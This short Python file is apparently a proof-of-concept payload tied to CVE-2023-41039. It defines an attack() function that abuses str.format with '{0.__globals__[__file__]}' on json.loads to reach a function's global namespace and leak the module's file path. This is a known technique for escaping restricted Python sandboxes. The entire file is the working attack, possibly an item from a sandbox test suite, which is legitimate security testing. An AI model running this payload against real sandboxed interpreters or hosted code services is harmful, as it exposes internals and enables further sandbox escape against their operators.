# The method is taken from the class.
# after: interpreter
# source: CVE-2023-41039 (GHSA-xjw2-6jm9-rf67)
import json
def attack(**_):
    return {"text": str.format("{0.__globals__[__file__]}", json.loads)}
